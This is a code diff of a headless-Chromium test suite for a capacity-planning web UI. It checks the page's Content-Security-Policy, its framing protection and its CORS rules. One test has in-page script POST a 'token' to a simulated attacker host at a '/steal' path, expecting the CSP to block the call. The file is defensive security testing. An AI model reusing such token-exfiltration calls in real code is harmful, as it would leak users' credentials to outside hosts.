@@ -1,12 +1,14 @@
 /**
- * The web page in real headless Chromium: from an allowed origin it works over
- * both the Connect protocol and gRPC-Web; from another origin the browser
- * refuses the calls (CORS). Screenshots go to test-results/ (git-ignored).
+ * The web page in real headless Chromium, served by the service at /ui: it
+ * works over both the Connect protocol and gRPC-Web under its own strict CSP,
+ * talks to nobody but its own origin (whatever ?api= says), cannot be framed,
+ * and the API's CORS lets only listed origins call it from a browser.
+ * Screenshots go to test-results/ (git-ignored).
  */
-import { existsSync, mkdirSync, readFileSync } from "node:fs";
+import { existsSync, mkdirSync } from "node:fs";
 import http from "node:http";
 import type { AddressInfo } from "node:net";
-import { extname, join } from "node:path";
+import { join } from "node:path";
 import { chromium, type Browser, type Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { uiDirectory } from "../../src/server/ui.js";
@@ -16,36 +18,62 @@ import { startTestServer, type TestServer } from "../helpers/server.js";
 const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
 const SHOTS = "test-results";
 
-/** Serves the built UI from another origin, as a separately hosted front end would be. */
-async function staticSite(dir: string): Promise<{ origin: string; close: () => Promise<void> }> {
+/** Another origin on its own port: answers every request with one HTML page and records what it was sent. */
+interface Site {
+  origin: string;
+  /** Every request that reached it ("METHOD /path"). */
+  requests: string[];
+  close(): Promise<void>;
+}
+
+async function site(html: string, { welcomeEveryone = false } = {}): Promise<Site> {
+  const requests: string[] = [];
   const server = http.createServer((req, res) => {
-    const path = (req.url ?? "/").split("?")[0]!;
-    const file = join(dir, path === "/" ? "index.html" : path.replace(/^\/+/, ""));
-    if (!file.startsWith(dir) || !existsSync(file)) {
-      res.writeHead(404).end();
-      return;
+    requests.push(`${req.method} ${req.url}${req.headers.authorization === undefined ? "" : " with a token"}`);
+    req.resume();
+    if (welcomeEveryone) {
+      // An attacker's host lets any page send it anything, Authorization included.
+      res.setHeader("access-control-allow-origin", "*");
+      res.setHeader("access-control-allow-methods", "GET, POST");
+      res.setHeader("access-control-allow-headers", req.headers["access-control-request-headers"] ?? "*");
     }
-    const type = { ".html": "text/html", ".js": "text/javascript", ".css": "text/css" }[extname(file)] ?? "application/octet-stream";
-    res.writeHead(200, { "content-type": type }).end(readFileSync(file));
+    res.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(html);
   });
   await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
   return {
     origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
-    close: () => new Promise((r) => server.close(() => r())),
+    requests,
+    close: () =>
+      new Promise((r) => {
+        server.closeAllConnections();
+        server.close(() => r());
+      }),
   };
+}
+
+/** Console messages of a page that report a Content-Security-Policy violation. */
+function cspViolations(page: Page): string[] {
+  const seen: string[] = [];
+  page.on("console", (m) => {
+    if (/Content Security Policy/i.test(m.text())) seen.push(m.text());
+  });
+  return seen;
 }
 
 describe("the web UI in Chromium", () => {
   let browser: Browser;
   let server: TestServer;
-  let allowed: Awaited<ReturnType<typeof staticSite>>;
-  let refused: Awaited<ReturnType<typeof staticSite>>;
+  let allowed: Site;
+  let refused: Site;
+  let attacker: Site;
 
   beforeAll(async () => {
     const dir = uiDirectory();
     if (!existsSync(join(dir, "index.html"))) throw new Error(`no built UI in ${dir}: run npm run build:ui`);
-    allowed = await staticSite(dir);
-    refused = await staticSite(dir);
+    const plain = '<!doctype html><title>other origin</title><p id="marker">framed fine</p>';
+    allowed = await site(plain);
+    refused = await site(plain);
+    attacker = await site(plain, { welcomeEveryone: true });
     server = await startTestServer("sqlite", { env: { CAPACITY_CORS_ORIGINS: allowed.origin } });
     browser = await chromium.launch({
       executablePath: CHROMIUM,
@@ -56,14 +84,13 @@ describe("the web UI in Chromium", () => {
   afterAll(async () => {
     await browser?.close();
     await server?.close();
-    await allowed?.close();
-    await refused?.close();
+    await Promise.all([allowed?.close(), refused?.close(), attacker?.close()]);
   });
 
-  async function open(origin: string, transport: string, personId: string): Promise<Page> {
+  async function open(params: Record<string, string>): Promise<Page> {
     const page = await browser.newPage({ viewport: { width: 1200, height: 800 } });
-    const q = new URLSearchParams({ api: server.baseUrl, transport, person: personId, from: "2027-03-01", to: "2027-03-31" });
-    await page.goto(`${origin}/index.html?${q}`);
+    const q = new URLSearchParams({ from: "2027-03-01", to: "2027-03-31", ...params });
+    await page.goto(`${server.baseUrl}/ui/?${q}`);
     return page;
   }
 
@@ -76,10 +103,11 @@ describe("the web UI in Chromium", () => {
   }
 
   for (const transport of ["connect", "grpc-web"]) {
-    it(`shows, creates, edits and confirms allocations over ${transport} from an allowed origin`, async () => {
+    it(`shows, creates, edits and confirms allocations over ${transport} without breaking its own CSP`, async () => {
       const t = tenant();
       const p = person();
-      const page = await open(allowed.origin, transport, p);
+      const page = await open({ transport, person: p });
+      const violations = cspViolations(page);
       await page.fill("#token", await server.token(t));
       await page.click("#load");
       await expect.poll(() => page.textContent("#status")).toBe("0 allocation(s)");
@@ -115,39 +143,118 @@ describe("the web UI in Chromium", () => {
         [4000, true],
         [5000, false],
       ]);
+      // Styles and scripts all came from files: the CSP refused nothing.
+      expect(violations).toEqual([]);
       await page.close();
     });
   }
 
-  it("refuses calls from a page on an origin that is not allowed", async () => {
-    const t = tenant();
-    const p = person();
-    const page = await open(refused.origin, "connect", p);
-    const corsErrors: string[] = [];
-    page.on("console", (m) => {
-      if (/CORS|Access-Control/i.test(m.text())) corsErrors.push(m.text());
-    });
-    await page.fill("#token", await server.token(t));
-    await fill(page, project(), "2027-03-01", "2027-03-02", "10");
-    await expect.poll(() => page.getAttribute("#status", "class")).toBe("error");
-    expect(await page.textContent("#status")).toMatch(/^Unknown|^Unavailable|^Internal|Failed to fetch/);
-    await expect.poll(() => corsErrors.length).toBeGreaterThan(0);
-    await page.screenshot({ path: join(SHOTS, "ui-refused-origin.png") });
-    expect(await server.db.knex("capacities").where({ tenant_id: t }).count({ n: "*" })).toEqual([{ n: 0 }]);
-    await page.close();
-  });
-
-  it("is served by the service itself at /ui", async () => {
+  it("redirects /ui to /ui/ and serves the page with its CSP", async () => {
     const page = await browser.newPage();
     const res = await page.goto(`${server.baseUrl}/ui`);
     expect(res?.status()).toBe(200);
     expect(page.url()).toBe(`${server.baseUrl}/ui/`);
     expect(await page.title()).toBe("Capacity");
-    // Same origin: no CORS needed.
-    await page.fill("#token", await server.token(tenant()));
-    await page.fill("#person", person());
-    await page.click("#load");
-    await expect.poll(() => page.textContent("#status")).toBe("0 allocation(s)");
+    expect(res?.headers()["content-security-policy"]).toContain("connect-src 'self'");
+    expect(res?.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
     await page.close();
+  });
+
+  it("sends the pasted token to no host named by ?api=, only to its own origin", async () => {
+    const t = tenant();
+    const p = person();
+    const page = await open({ api: attacker.origin, person: p });
+    const violations = cspViolations(page);
+    const elsewhere: string[] = [];
+    page.on("request", (r) => {
+      if (!r.url().startsWith(`${server.baseUrl}/`)) elsewhere.push(r.url());
+    });
+    await page.fill("#token", await server.token(t));
+    await page.click("#load");
+    await expect.poll(() => page.textContent("#status")).not.toMatch(/^(loading…)?$/);
+    expect(attacker.requests).toEqual([]);
+    expect(await page.textContent("#status")).toBe("0 allocation(s)");
+    await fill(page, project(), "2027-03-01", "2027-03-02", "10");
+    await expect.poll(() => page.textContent("#status")).toMatch(/^created cap_/);
+    expect(await server.db.knex("capacities").where({ tenant_id: t }).count({ n: "*" })).toEqual([{ n: 1 }]);
+    expect(elsewhere).toEqual([]);
+
+    // Even script running in the page cannot reach another origin: connect-src 'self'.
+    const outcome = await page.evaluate(async (url) => {
+      try {
+        await fetch(url, { method: "POST", body: "token", mode: "no-cors" });
+        return "sent";
+      } catch (err) {
+        return String(err);
+      }
+    }, `${attacker.origin}/steal`);
+    expect(outcome).toMatch(/TypeError/);
+    await expect.poll(() => violations.some((v) => v.includes("connect-src"))).toBe(true);
+    expect(attacker.requests).toEqual([]);
+    await page.close();
+  });
+
+  it("cannot be framed by a page on another origin", async () => {
+    const uiUrl = `${server.baseUrl}/ui/`;
+    const framer = await site(
+      `<!doctype html><title>framer</title>` +
+        `<iframe name="ui" src="${uiUrl}"></iframe>` +
+        // A control: a frameable page of yet another origin loads in the same spot.
+        `<iframe name="control" src="${refused.origin}/"></iframe>`,
+    );
+    try {
+      const page = await browser.newPage();
+      const violations = cspViolations(page);
+      const uiResponse = page.waitForResponse(uiUrl);
+      await page.goto(framer.origin);
+      expect((await uiResponse).status()).toBe(200); // served, but not shown
+      const control = page.frame({ name: "control" })!;
+      await expect.poll(() => control.textContent("#marker").catch(() => null)).toBe("framed fine");
+      await expect.poll(() => violations.some((v) => v.includes("frame-ancestors"))).toBe(true);
+      const ui = page.frame({ name: "ui" })!;
+      expect(await ui.$("#token")).toBeNull();
+      expect(await ui.title().catch(() => "")).not.toBe("Capacity");
+      await page.screenshot({ path: join(SHOTS, "ui-framed.png") });
+      await page.close();
+    } finally {
+      await framer.close();
+    }
+  });
+
+  async function setCapacityFrom(origin: string, token: string, personId: string): Promise<string> {
+    const page = await browser.newPage();
+    await page.goto(`${origin}/`);
+    const outcome = await page.evaluate(
+      async ({ url, token, body }) => {
+        try {
+          const res = await fetch(url, {
+            method: "POST",
+            headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
+            body: JSON.stringify(body),
+          });
+          return `status ${res.status}`;
+        } catch (err) {
+          return String(err);
+        }
+      },
+      {
+        url: `${server.baseUrl}/work.v1.CapacityService/SetCapacity`,
+        token,
+        body: { capacity: { personId, projectId: project(), periodStart: "2027-03-01", periodEnd: "2027-03-02", allocatedPct: 10 } },
+      },
+    );
+    await page.close();
+    return outcome;
+  }
+
+  it("lets a page on a listed origin call the API (CORS) and refuses one on another origin", async () => {
+    const t = tenant();
+    const token = await server.token(t);
+    expect(await setCapacityFrom(allowed.origin, token, person())).toBe("status 200");
+    expect(await server.db.knex("capacities").where({ tenant_id: t }).count({ n: "*" })).toEqual([{ n: 1 }]);
+
+    const t2 = tenant();
+    expect(await setCapacityFrom(refused.origin, await server.token(t2), person())).toMatch(/TypeError: Failed to fetch/);
+    expect(await server.db.knex("capacities").where({ tenant_id: t2 }).count({ n: "*" })).toEqual([{ n: 0 }]);
   });
 });
